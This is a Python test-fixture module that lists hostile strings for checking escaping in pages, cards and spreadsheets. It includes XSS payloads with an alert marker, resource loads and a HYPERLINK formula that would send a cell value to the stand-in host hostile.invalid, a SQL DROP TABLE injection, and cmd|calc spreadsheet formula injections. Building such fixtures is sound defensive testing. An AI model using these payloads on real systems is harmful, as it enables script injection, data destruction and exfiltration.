"""Texts that a page, a card or a spreadsheet could take for something else than text.

`FLAG` is what each of them sets, calls or fetches where it is run. Texts that a file in UTF-8 can
hold are in `TEXTS`; `SURROGATES` only enter by the command line and by names of files.
"""

from __future__ import annotations

FLAG = "hostile"
RUN = f"window.{FLAG}=(window.{FLAG}||0)+1;alert(1)"
HOST = f"http://{FLAG}.invalid"

SCRIPTS = (
    f"<!--<script>{RUN}",
    f"<!-- <script> {RUN} </script> -->",
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><script>{RUN}//",
    f"<script src='{HOST}/a.js'></script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"</textarea></title></style></noscript><script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<svg onload={RUN}><animate onbegin={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<link rel=stylesheet href='{HOST}/a.css'><base href='{HOST}/'>",
    f"<style>@import '{HOST}/b.css'; body {{ background: url({HOST}/c.png) }}</style>",
    f'<meta http-equiv="refresh" content="0; url={HOST}">',
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"red; background: url({HOST}/d.png)",
)
ENTITIES = (
    "&lt;script&gt; &amp;amp; &#60;b&#62; &nbsp; &notanentity;",
    "\\u003cscript\\u003e \\x3c \\n \\",
)
TEMPLATES = (
    "{{ 7 * 7 }} {{customer_id}} {% raw %} {# note #}",
    "[[and province = {{province}}]]",
    "${7 * 7} #{7 * 7} $column $$ $0 $& $`",
    "<% 7 * 7 %> <?php echo 7 ?>",
    "%s %(name)s %n {0} {name} {data} {scripts}",
    "[bold red]text[/bold] [/] [link=x]y[/link]",
    "`code` {a} {b|c} $\\frac{1}{2}$ $x_1$",
)
INVISIBLE = (
    "line\u2028separator and paragraph\u2029separator",
    "nul\x00byte",
    "bell\x07 escape\x1b[31mred\x1b[0m delete\x7f",
    "c1\x9b31m control\x85",
    "right\u202eot\u202c tfel \u2066isolate\u2069",
    "\ufeffmark zero\u200bwidth soft\u00adhyphen",
    "tab\there\r\ncarriage\rreturn\nline",
    "   spaces   ",
)
MARKDOWN = (
    f"[press]({HOST}/press) ![see]({HOST}/see.png) <{HOST}>",
    f"[press](javascript:{RUN}) **bold** _soft_ ~~gone~~ snake_case __proto__",
    "# heading\n\n- list\n\n> quote\n\n---\n```\ncode\n```",
    "| a | b |\n|---|---|\n| c | d |",
    "[ref]: http://hostile.invalid/ref\n\n1. one",
    "www.hostile.invalid mail@hostile.invalid @everyone <!channel>",
)
QUOTES = (
    "'; drop table mart_customer_risk; --",
    '" or ""=""; /* */ \'\'',
    'comma, "quoted", semicolon; and\nline',
    "a 'single' and \"double\" and `back` quote\\",
)
FORMULAS = (
    '=HYPERLINK("http://hostile.invalid/?"&A1,"press")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'text;=1+1;"=2+2',
    "+34 600 000 000",
)
NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "NaN", "-")
SHAPES = (
    "👩‍👩‍👧‍👦 🏳️‍🌈 é ñ 漢字 مرحبا שלום",
    "Z" + "\u0335\u0321\u0357" * 40,
    "long " * 2000 + "end",
    "unbroken" * 500,
)
TEXTS = (
    *(*SCRIPTS, *ENTITIES, *TEMPLATES, *INVISIBLE, *MARKDOWN),
    *(*QUOTES, *FORMULAS, *NAMES, *SHAPES),
)
SURROGATES = ("half \ud83d of a pair", "not UTF-8: \udcff\udcfe", "\udfff\ud800")
